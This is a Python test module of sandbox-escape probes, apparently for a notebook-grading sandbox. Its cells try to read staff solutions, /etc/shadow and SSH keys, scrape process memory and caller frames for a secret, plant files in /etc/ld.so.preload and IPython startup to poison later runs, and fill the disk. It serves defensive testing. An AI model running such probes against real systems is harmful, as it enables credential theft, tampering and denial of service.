"""Cells that read what is not theirs, or leave something for the next notebook."""

from __future__ import annotations

from sandbox.attacks.attack import Attack

ATTACKS: dict[str, Attack] = {
    "solutions, gradebook and neighbours by path": Attack(
        """
import glob, os
for path in ("@STAFF@/solution.py", "@STAFF@", "@COURSE@", "@COURSE@/solutions", "@COURSE@/grader",
             "/root/.ssh", "/etc/shadow", "/var/log", "/run", "/srv", "/proc/1/root@STAFF@",
             "/proc/self/root@STAFF@", "/proc/self/root/..@STAFF@", "/proc/self/cwd/../..@STAFF@",
             *glob.glob("/tmp/gradus-*")):
    if path.startswith(os.getcwd()): continue
    try: print("BREACH", path, os.listdir(path) if os.path.isdir(path) else open(path).read(9))
    except OSError: pass
for name in ("grader", "solutions", "problems"):
    try: __import__(name); print("BREACH", name)
    except ImportError: pass
print("nothing there")""",
        "mount namespace, or landlock",
        evidence="nothing there",
    ),
    "metadata of the staff's files": Attack(
        """
import os
path = "@STAFF@/solution.py"
for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)),
            lambda: os.setxattr(path, "user.x", b"1"), lambda: os.rename(path, path + "2"),
            lambda: os.truncate(path, 0), lambda: os.chmod("@STAFF@", 0o777),
            lambda: os.chown(path, os.getuid(), os.getgid()), lambda: os.unlink(path)):
    try: act(); print("BREACH")
    except OSError: pass
print("untouched")""",
        "mount namespace, or seccomp on chmod and its like",
        evidence="untouched",
    ),
    "times of what all share": Attack(
        """
import os, subprocess
for path in ("/dev/null", "/dev/zero", "/dev/full", "/dev/urandom", "/usr", "/", os.__file__):
    for times in (None, (1, 1)):
        try: os.utime(path, times); print("BREACH", path)
        except OSError: pass
open("/dev/null", "w").write("x")
print(subprocess.run("echo x > /dev/null; head -c 3 /dev/zero | wc -c", shell=True,
                     capture_output=True, text=True))""",
        "read-only mounts, or seccomp on utime",
        evidence="stdout='3",
    ),
    "descriptors": Attack(
        """
import fcntl, os, stat
for fd in range(3, 500):
    try: mode = os.fstat(fd).st_mode
    except OSError: continue
    access = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
    if stat.S_ISSOCK(mode) and not os.readlink(f"/proc/self/fd/{fd}").startswith("socket"): continue
    if stat.S_ISDIR(mode): print("BREACH folder", fd)
    if stat.S_ISREG(mode) and access != os.O_RDONLY and fd > 2:
        try: name = os.readlink(f"/proc/self/fd/{fd}")
        except OSError: name = "memfd:"
        if "memfd:" not in name: print("BREACH", name)
    for start in ("..", "../..", "@STAFF@"):
        try: os.open(start, os.O_RDONLY, dir_fd=fd); print("BREACH", fd, start)
        except OSError: pass
print("nothing of use")""",
        "close_range before the first cell",
        evidence="nothing of use",
    ),
    "objects and memory": Attack(
        """
import gc, re
mark = "".join(map(chr, (67, 65, 78, 65, 82, 89, 45)))
for thing in gc.get_objects():
    if type(thing) is dict and any(type(v) is str and mark in v for v in thing.values()):
        if thing is not globals(): print("BREACH object")
pattern = mark.encode() + rb"[0-9a-f]{16}"
scanned = 0
try:
    for line in open("/proc/self/maps"):
        span, rights = line.split()[:2]
        a, b = (int(x, 16) for x in span.split("-"))
        if "r" not in rights or b - a > 1 << 28: continue
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(a); data = memory.read(b - a)
        except (OSError, ValueError, MemoryError): continue
        scanned += len(data)
        if re.search(pattern, data): print("BREACH memory")
except OSError: pass
print("scanned")""",
        "a parent that holds no secret",
        evidence="scanned",
    ),
    "what the warm parent knows of neighbours": Attack(
        """
import gc, sys
for thing in gc.get_objects():
    if type(thing).__name__ == "_Child": print("BREACH neighbour", thing)
    if type(thing).__name__ == "socket" and type(thing).__module__ == "socket":
        if thing.fileno() >= 0 and thing.type & 15 != 1: print("BREACH", thing)
frame = sys._getframe()
while frame:
    parent = frame.f_locals.get("self")
    if type(parent).__name__ == "Zygote" and (parent._children or parent._control.fileno() >= 0):
        print("BREACH", parent._children)
    frame = frame.f_back
print("alone")""",
        "a child forgets before it gets its job",
        evidence="alone",
    ),
    "frames of callers": Attack(
        """
import sys
mark = "".join(map(chr, (67, 65, 78, 65, 82, 89, 45)))
frame = sys._getframe()
while frame:
    for space in (frame.f_locals, frame.f_globals):
        for name, value in list(space.items()):
            if name != "mark" and mark in repr(value)[:2000] and space is not globals():
                print("BREACH", name)
    frame = frame.f_back
print("looked")""",
        "a parent that holds no secret",
        evidence="looked",
    ),
    "poison for the next notebook": Attack(
        """
import os, site, sys
places = [*(f"{p}/poison.pth" for p in site.getsitepackages()),
          os.path.dirname(os.__file__) + "/poison.py", "/opt/gradus/shell.py", "/usr/lib/poison",
          "/etc/ld.so.preload", "/dev/poison", "/poison", "/opt/poison", "/proc/poison"]
for path in places:
    try: open(path, "a").write("#"); print("BREACH", path)
    except OSError: pass
for path in ("~/.ipython/profile_default/startup/p.py", "~/.config/matplotlib/matplotlibrc",
             "~/poison", "/tmp/poison-gradus", "/dev/shm/poison-gradus"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import os; os._exit(1)")
    except OSError: pass
import json, numpy, sympy, builtins
json.dumps = json.loads = sympy.simplify = numpy.array = builtins.len = None
print("poisoned")""",
        "read-only root, tmpfs of its own, fork",
        "any",
    ),
    "the poison of the one before": Attack(
        """
import os
for path in ("~/poison", "~/.ipython/profile_default/startup/p.py", "/tmp/poison-gradus",
             "/dev/shm/poison-gradus", "~/.config/matplotlib/matplotlibrc"):
    if os.path.exists(os.path.expanduser(path)): print("BREACH", path)
import json, sympy
print(json.dumps([1]), sympy.simplify("x + x"), len("abc"))""",
        "tmpfs of its own, fork",
        evidence=r"\[1\] 2\*x 3",
    ),
    "links": Attack(
        """
import os
for target, name in (("@STAFF@/solution.py", "a"), ("/", "b"), ("/proc/self/root", "c")):
    try: os.symlink(target, name)
    except OSError: pass
for path in ("a", "b@STAFF@/solution.py", "c@STAFF@/solution.py"):
    try: print("BREACH", open(path).read(9))
    except OSError: pass
for source in ("/usr/bin/env", "@STAFF@/solution.py"):
    try: os.link(source, "hard"); print("BREACH hard link")
    except OSError: pass
print("led nowhere")""",
        "mount namespace, or landlock",
        evidence="led nowhere",
    ),
    "a full disk": Attack(
        """
import os
for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm", "."):
    written = 0
    try:
        for number in range(40):
            with open(f"{folder}/fill{number}", "wb") as file:
                for _ in range(8): written += file.write(b"x" * (1 << 20))
        if written > 300 << 20: print("BREACH", folder)
    except OSError as error: print("stopped:", error.strerror)""",
        "size of the tmpfs, or the watch on files",
        "any",
        "stopped|MiB of files|took longer",
    ),
    "many files": Attack(
        """
import time
n = 0
try:
    while n < 30000:
        open(f"many{n}", "w").close(); n += 1
    time.sleep(2)
    print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "inodes of the tmpfs, or the watch on files",
        "any",
        "stopped|files|took longer",
    ),
    "a sparse terabyte": Attack(
        """
try: open("sparse", "wb").truncate(1 << 40); print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "rlimits (file size)",
        evidence="stopped",
    ),
}
